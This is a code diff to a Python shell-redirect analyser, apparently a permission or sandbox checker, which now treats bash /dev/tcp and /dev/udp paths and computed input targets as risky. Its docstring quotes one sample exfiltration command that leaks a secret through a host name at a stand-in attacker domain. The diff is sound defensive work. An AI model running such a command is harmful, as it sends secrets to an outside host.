@@ -64,6 +64,7 @@ class Assignment:
 
 _WRITE_OPS = frozenset({">", ">>", "&>", "&>>", ">|", "<>", ">&"})
 _HARMLESS_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr"})
+_NETWORK_PATHS = ("/dev/tcp/", "/dev/udp/")
 
 
 @dataclass(frozen=True, slots=True)
@@ -75,10 +76,17 @@ class Redirect:
 
     @property
     def writes(self) -> bool:
-        """Whether it may create or change a file (``/dev/null`` and ``2>&1`` do not)."""
-        if self.op not in _WRITE_OPS or self.target is None:
-            return False
+        """Whether it may create or change a file (``/dev/null`` and ``2>&1`` do not), or open
+        a network connection: bash connects for ``/dev/tcp/HOST/PORT`` and ``/dev/udp/…`` in
+        any direction, ``cat < /dev/tcp/$(secret).evil.example/80`` sends what the host name
+        holds; a computed target (``< $F``) may be one."""
         target = self.target
+        if target is not None and self.op not in _WRITE_OPS and self.op[-1:] == "<":
+            return not target.literal or target.text.startswith(_NETWORK_PATHS)
+        if self.op not in _WRITE_OPS or target is None:
+            return False
+        if target.literal and target.text.startswith(_NETWORK_PATHS):
+            return True
         if not target.literal:
             return True
         if target.text in _HARMLESS_TARGETS:
